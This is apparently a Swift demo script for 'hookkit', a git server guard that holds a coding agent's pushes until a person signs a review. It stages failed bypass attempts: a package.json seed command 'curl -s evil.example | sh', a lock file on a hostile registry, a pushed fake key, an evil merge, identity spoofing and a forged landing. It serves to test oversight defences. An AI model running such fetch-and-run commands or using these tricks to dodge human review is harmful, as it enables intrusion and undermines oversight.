internal import Gate
internal import Git
internal import Ledger
internal import Platform
internal import Primitives
internal import Signing

/// What the demo tells: an agent's work, a person's reviews, and every way around them that fails.
struct Story {
  let stage: Stage

  private static let server = "app.git"
  private static let main = "refs/heads/main"
  private static let topic = "agent/retry"
  private static let deep = "agent/deep"

  func play() throws {
    try prepare()
    try guardServer()
    try holdAgent()
    try refuseSelfReview()
    try review()
    try holdAmended()
    try holdDependencies()
    try release()
    try refuseSecret()
    try refuseEvilMerge()
    try mergeHonestly()
    try refuseWorkBelowTip()
    try refuseBroughtSignature()
    try verify()
    try findForgery()
    stage.say()
    stage.say("That is all of it: what no person vouched for did not reach main.")
  }

  // MARK: The stage

  private func prepare() throws {
    stage.say("One temporary folder, real git, keys made for the occasion.")
    stage.say("dana reviews. codex is a coding agent, and erin answers for it.")
    for folder in ["home", "tmp", "keys"] {
      try FileBytes.makeFolder(stage.path(folder), mode: 0o700)
    }
    try stage.write(
      """
      [init]
      \tdefaultBranch = main
      [gpg]
      \tformat = ssh
      [advice]
      \tpushUpdateRejected = false
      [protocol "file"]
      \tallow = always

      """, to: "home/.gitconfig")
    for actor in Stage.Actor.allCases {
      try stage.quietly(
        actor, "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", actor.rawValue, "-f",
        stage.path("keys/\(actor.rawValue)"))
    }
    try stage.quietly(.admin, "git", "init", "--quiet", "--bare", Self.server)
    for actor in [Stage.Actor.dana, .codex] {
      try stage.quietly(
        .admin, "git", "clone", "--quiet", Self.server, actor.rawValue)
    }
    try stage.quietly(.dana, "git", "config", "user.signingkey", stage.path("keys/dana.pub"))
    try stage.quietly(.dana, "git", "config", "commit.gpgsign", "true")
    try stage.write("retries = 0\n", to: "dana/app.conf")
    try stage.write(lock("registry.example", "7.0.0"), to: "dana/package-lock.json")
    try stage.write(manifest(seed: "node seed.js"), to: "dana/package.json")
    try commit(.dana, "Start")
    try stage.quietly(.dana, "git", "push", "--quiet", "origin", "main")
    try stage.quietly(.codex, "git", "pull", "--quiet", "origin", "main")
  }

  private func guardServer() throws {
    stage.scene(1, "The server's main is guarded: agents' work needs a person's signed review.")
    try FileBytes.makeFolder(stage.path("\(Self.server)/hookkit"), mode: 0o700)
    try stage.write(policy(), to: "\(Self.server)/hookkit/policy.toml")
    if FileBytes.kind(ServerRepository.organisationPath) != .missing {
      // This machine's own organisation has no say in a story.
      try stage.write(Self.organisation, to: "organisation.toml")
      try stage.write(
        stage.path("organisation.toml") + "\n", to: "\(Self.server)/hookkit/organisation")
    }
    try stage.run(.admin, "hookkit", "-q", "install", "--server", "--host", "local", Self.server)
    let hooks = try FileBytes.names(in: stage.path("\(Self.server)/hooks"))
    try stage.require(
      "four hooks stand in \(Self.server), and main's present tip is on record",
      ["pre-receive", "proc-receive", "reference-transaction", "post-receive"]
        .allSatisfy(hooks.contains) && serverTip("refs/hookkit/landings") != nil)
  }

  private static let organisation = """
    version = 1
    serial = 1
    delegate = ["people"]

    """

  private func policy() throws -> String {
    func keys(_ actor: Stage.Actor) throws -> String {
      """
      emails = ["\(actor.email)"]
      accounts = ["\(actor.rawValue)"]
      keys = ["\(try stage.read("keys/\(actor.rawValue).pub"))"]
      """
    }
    return """
      version = 1
      serial = 1
      repository = "git.example.org/app"

      [people.dana]
      \(try keys(.dana))
      roles = ["reviewer", "maintainer"]

      [people.erin]
      \(try keys(.erin))
      roles = ["reviewer"]

      [agents.codex]
      \(try keys(.codex))
      sponsor = "erin"

      [[protect]]
      refs = ["refs/heads/main"]
      review = { of = "agents", approvals = 1, role = "reviewer" }
      unverified = "agent"
      hold = true

      [[quarantine]]
      refs = ["refs/heads/**"]
      by = "agents"
      files = ["locks", "manifests", "origins", "runs-code", "agent-config"]

      """
  }

  /// A package-lock.json with one package.
  private func lock(_ host: String, _ version: String) -> String {
    let file = "https://\(host)/is-number/-/is-number-\(version).tgz"
    let digest = String(repeating: version == "7.0.0" ? "A" : "B", count: 86)
    return """
      {
        "name": "app",
        "lockfileVersion": 3,
        "packages": {
          "": {
            "dependencies": {
              "is-number": "^7.0.0"
            }
          },
          "node_modules/is-number": {
            "version": "\(version)",
            "resolved": "\(file)",
            "integrity": "sha512-\(digest)=="
          }
        }
      }

      """
  }

  /// The project's package.json, with a command in the table of a tool.
  private func manifest(seed: String) -> String {
    """
    {
      "name": "app",
      "license": "MIT",
      "dependencies": { "is-number": "^7.0.0" },
      "prisma": { "seed": "\(seed)" }
    }

    """
  }

  // MARK: The agent's work

  private func holdAgent() throws {
    stage.scene(2, "The agent pushes to main: held, not lost.")
    try stage.write("retries = 3\n", to: "codex/app.conf")
    try commit(.codex, "Retry on 429")
    let before = try serverTip(Self.main)
    try stage.run(
      .codex, "git", "push", "origin", "main", expecting: .fails(1, saying: "HK101 held as"))
    try stage.require("main has not moved", serverTip(Self.main) == before)
    try stage.require("the push is kept under refs/quarantine/", hold(of: .codex) != nil)
  }

  private func refuseSelfReview() throws {
    stage.scene(3, "It tries to review its own work, and is refused by its key and by its account.")
    let work = try short(.codex, "main")
    try stage.run(
      .codex, "hookkit", "-q", "review", "approve", work, "--confirm", work,
      expecting: .fails(1, saying: "not a person"))
    try stage.run(
      .codex, "git", "push", "origin", "main:refs/hookkit/ledger",
      expecting: .fails(1, saying: "HK402"))
    try stage.require("the ledger of reviews is empty", serverTip("refs/hookkit/ledger") == nil)
  }

  // MARK: The person's part

  private func review() throws {
    stage.scene(4, "A person sees what she signs, and signs: the server lands it by itself.")
    let work = try short(.codex, "main")
    try stage.run(.dana, "hookkit", "review", "approve", work, "--confirm", work)
    try stage.require("main is what was held", serverTip(Self.main) == tip(.codex, "main"))
    try stage.require("nothing is held any more", hold(of: .codex) == nil)
  }

  private func holdAmended() throws {
    stage.scene(5, "The agent amends what was reviewed: the old review no longer counts.")
    try stage.write("retries = 3\nbackoff = 2\n", to: "codex/app.conf")
    try commit(.codex, "Back off between retries")
    try stage.run(.codex, "git", "push", "origin", "main:\(Self.topic)")
    let reviewed = try short(.codex, "main")
    try stage.run(.dana, "hookkit", "-q", "review", "approve", reviewed, "--confirm", reviewed)
    try stage.write("retries = 3\nbackoff = 0\n", to: "codex/app.conf")
    try stage.run(.codex, "git", "commit", "--quiet", "--all", "--amend", "--no-edit")
    try stage.quietly(.codex, "git", "push", "--quiet", "--force", "origin", "main:\(Self.topic)")
    try stage.quietly(.dana, "git", "fetch", "--quiet", "origin")
    let before = try serverTip(Self.main)
    try stage.run(
      .dana, "git", "push", "origin", "origin/\(Self.topic):main",
      expecting: .fails(1, saying: "HK101 held as"))
    try stage.require("main has not moved", serverTip(Self.main) == before)
  }

  // MARK: Dependencies

  private func holdDependencies() throws {
    stage.scene(
      6, "Another registry, and a command among the metadata: held, explained and rejected.")
    try stage.quietly(.codex, "git", "fetch", "--quiet", "origin")
    try stage.quietly(.codex, "git", "reset", "--quiet", "--hard", "origin/main")
    try stage.write(lock("registry.evil.example", "7.0.0"), to: "codex/package-lock.json")
    try stage.write(
      manifest(seed: "curl -s evil.example | sh"), to: "codex/package.json")
    try commit(.codex, "Update dependencies")
    try stage.run(
      .codex, "git", "push", "origin", "main", expecting: .fails(1, saying: "HK201 held as"))
    guard let hold = try hold(of: .codex) else { throw stage.deviation("nothing is held") }
    try stage.run(
      .dana, "hookkit", "-q", "quarantine", "reject", hold, "-m", "not our registry", "--confirm",
      hold)
    try stage.run(
      .codex, "git", "push", "origin", "main", expecting: .fails(1, saying: "HK202"))
  }

  private func release() throws {
    stage.scene(7, "It pushes an honest one; dana releases and reviews; the server lands it.")
    try stage.quietly(.codex, "git", "reset", "--quiet", "--hard", "origin/main")
    try stage.write(lock("registry.example", "7.0.1"), to: "codex/package-lock.json")
    try commit(.codex, "Update dependencies")
    try stage.run(
      .codex, "git", "push", "origin", "main", expecting: .fails(1, saying: "HK201 held as"))
    let work = try short(.codex, "main")
    guard let hold = try hold(of: .codex) else { throw stage.deviation("nothing is held") }
    try stage.run(
      .codex, "hookkit", "-q", "quarantine", "release", hold, "--confirm", hold,
      expecting: .fails(1, saying: "not a person"))
    try stage.run(.dana, "hookkit", "quarantine", "release", hold, "--confirm", hold)
    try stage.run(.dana, "hookkit", "-q", "review", "approve", work, "--confirm", work)
    try stage.require("main is what was held", serverTip(Self.main) == tip(.codex, "main"))
  }

  /// The name of the hold of an actor's own main; `nil` when the server holds nothing of it.
  private func hold(of actor: Stage.Actor) throws -> String? {
    let commit = try tip(actor, "main")
    return try Holds(gitDirectory: stage.path(Self.server)).all().first { $0.commit == commit }?.id
  }

  // MARK: Credentials

  private func refuseSecret() throws {
    stage.scene(
      8, "It pushes a key, to a branch of its own: nothing is stored, and it is told the way out.")
    let branch = "refs/heads/agent/codex/deploy"
    let setting = "target = production\n"
    try stage.write(setting + "key = \(Self.madeUpKey())\n", to: "codex/deploy.conf")
    try commit(.codex, "Deploy by itself")
    let work = try short(.codex, "main")
    try stage.run(
      .codex, "git", "push", "origin", "main:\(branch)", expecting: .fails(1, saying: "HK301"))
    try stage.require("the server has no such branch", serverTip(branch) == nil)
    try stage.run(
      .admin, "git", "-C", Self.server, "cat-file", "-t", work,
      expecting: .fails(128, saying: "Not a valid object name"))
    try stage.run(.codex, "git", "reset", "--quiet", "--soft", "HEAD^")
    try stage.write(setting, to: "codex/deploy.conf")
    try commit(.codex, "Deploy by itself")
    try stage.run(.codex, "git", "push", "origin", "main:\(branch)")
    try stage.require("without the key it lands", serverTip(branch) == tip(.codex, "main"))
  }

  /// A key of nobody's in the form of one vendor's.
  private static func madeUpKey() -> String {
    let letters = Array("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz")
    return "gs" + "k_" + String((0..<52).map { _ in letters.randomElement() ?? "0" })
  }

  // MARK: Merges

  private func refuseEvilMerge() throws {
    stage.scene(9, "Reviewed work, merged with a line that nobody reviewed: an evil merge.")
    try stage.quietly(.dana, "git", "pull", "--quiet", "--ff-only", "origin", "main")
    let work = try short(.dana, "origin/\(Self.topic)")
    try stage.run(.dana, "hookkit", "-q", "review", "approve", work, "--confirm", work)
    try stage.run(
      .dana, "git", "merge", "--quiet", "--no-ff", "--no-commit", "origin/\(Self.topic)")
    try stage.write("retries = 3\nbackoff = 0\nbackdoor = yes\n", to: "dana/app.conf")
    try stage.run(
      .dana, "git", "commit", "--quiet", "--all", "-m", "Merge \(Self.topic)")
    let before = try serverTip(Self.main)
    try stage.run(
      .dana, "git", "push", "origin", "main", expecting: .fails(1, saying: "HK102"))
    try stage.require("main has not moved", serverTip(Self.main) == before)
  }

  private func mergeHonestly() throws {
    stage.scene(10, "The same merge without that line lands.")
    try stage.quietly(.dana, "git", "reset", "--quiet", "--hard", "origin/main")
    try stage.run(
      .dana, "git", "merge", "--quiet", "--no-ff", "-m", "Merge \(Self.topic)",
      "origin/\(Self.topic)")
    try stage.run(.dana, "git", "push", "origin", "main")
    try stage.require(
      "main is that clean merge, recomputed by the server",
      serverTip(Self.main) == tip(.dana, "main"))
  }

  // MARK: Who brought it

  private func refuseWorkBelowTip() throws {
    stage.scene(11, "The agent's work below the tip it pushed, in dana's name: still the agent's.")
    try stage.quietly(.codex, "git", "fetch", "--quiet", "origin")
    try stage.quietly(.codex, "git", "reset", "--quiet", "--hard", "origin/main")
    try stage.write("retries = 9\n", to: "codex/app.conf")
    let email = Stage.Actor.dana.email
    try stage.quietly(
      .codex, "env", "GIT_COMMITTER_NAME=dana", "GIT_COMMITTER_EMAIL=\(email)",
      "git", "commit", "--quiet", "--all", "-m", "Retry more", "--author", "dana <\(email)>")
    try stage.write("retries = 8\n", to: "codex/app.conf")
    try commit(.codex, "Retry less")
    try stage.quietly(.codex, "git", "push", "--quiet", "origin", "main:\(Self.deep)")
    try stage.quietly(.dana, "git", "fetch", "--quiet", "origin")
    let before = try serverTip(Self.main)
    try stage.run(
      .dana, "git", "push", "origin", "origin/\(Self.deep)~1:main",
      expecting: .fails(1, saying: "pushed by its account"))
    try stage.require("main has not moved", serverTip(Self.main) == before)
  }

  private func refuseBroughtSignature() throws {
    stage.scene(12, "What dana signed and never pushed, brought by the agent: not her word.")
    try stage.write("retries = 0\n", to: "dana/app.conf")
    try commit(.dana, "Draft: no retries")
    try stage.quietly(.codex, "git", "fetch", "--quiet", stage.path("dana"), "main")
    let before = try serverTip(Self.main)
    try stage.run(
      .codex, "git", "push", "origin", "FETCH_HEAD:main",
      expecting: .fails(1, saying: "HK101"))
    try stage.require("main has not moved", serverTip(Self.main) == before)
  }

  // MARK: From outside

  private func verify() throws {
    stage.scene(13, "Anybody can check the server from a clone, with the server switched off.")
    try stage.run(
      .admin, "git", "clone", "--quiet", "--config",
      "remote.origin.fetch=+refs/hookkit/*:refs/hookkit/remotes/origin/*", Self.server, "auditor")
    let (here, away) = (stage.path(Self.server), stage.path("switched-off.git"))
    try FileBytes.move(here, to: away)
    defer { try? FileBytes.move(away, to: here) }
    try stage.run(
      .auditor, "hookkit", "verify", "--server-key",
      stage.path("switched-off.git/hookkit/server-key.pub"))
    stage.ok("every landing holds, judged again from the clone alone")
  }

  private func findForgery() throws {
    stage.scene(14, "Somebody with the server's disk moves main and signs a landing of their own.")
    let old = try serverTip(Self.main)
    let evil = try stage.quietly(
      .mallory, "git", "-C", Self.server, "commit-tree", "\(Self.main)^{tree}", "-p", Self.main,
      "-m",
      "Trust me")
    try stage.run(
      .mallory, "git", "-C", Self.server, "-c", "core.hooksPath=/dev/null", "update-ref", Self.main,
      evil)
    try forgeLanding(from: old, to: ObjectID(evil))
    let key = try stage.read("\(Self.server)/hookkit/server-key.pub")
    try stage.quietly(.auditor, "git", "config", "hookkit.serverKey", key)
    try stage.run(
      .auditor, "hookkit", "verify", "--remote", "origin",
      expecting: .fails(1, saying: "another key"))
    stage.ok("the forged landing is found and named")
  }

  /// Appends a landing as the server does, with a key that is not the server's.
  private func forgeLanding(from old: ObjectID?, to new: ObjectID?) throws {
    let directory = stage.path(Self.server)
    let objects = try ObjectStore(gitDirectory: directory)
    let references = try ReferenceStore(gitDirectory: directory)
    guard let old, let new, let tip = try references.resolve(.landings) else {
      throw stage.deviation("there is nothing to forge")
    }
    let last = try Landings(objects: objects).landing(at: tip).statement
    let forged = try LandingStatement(
      repository: last.repository, ref: last.ref, old: old, new: new, pusher: last.pusher,
      policyDigest: last.policyDigest, ledger: last.ledger, coverage: last.coverage,
      time: last.time, kind: .landing)
    try ServerRecords(gitDirectory: directory).append([.init(forged)], signedBy: .generate())
  }

  // MARK: Looking

  private func serverTip(_ name: String) throws -> ObjectID? {
    try ReferenceStore(gitDirectory: stage.path(Self.server)).resolve(RefName(name))
  }

  private func tip(_ actor: Stage.Actor, _ revision: String) throws -> ObjectID? {
    ObjectID(try stage.quietly(actor, "git", "rev-parse", revision))
  }

  private func short(_ actor: Stage.Actor, _ revision: String) throws -> String {
    try tip(actor, revision)?.short ?? revision
  }

  private func commit(_ actor: Stage.Actor, _ message: String) throws {
    try stage.quietly(actor, "git", "add", "--all")
    try stage.quietly(actor, "git", "commit", "--quiet", "-m", message)
  }
}
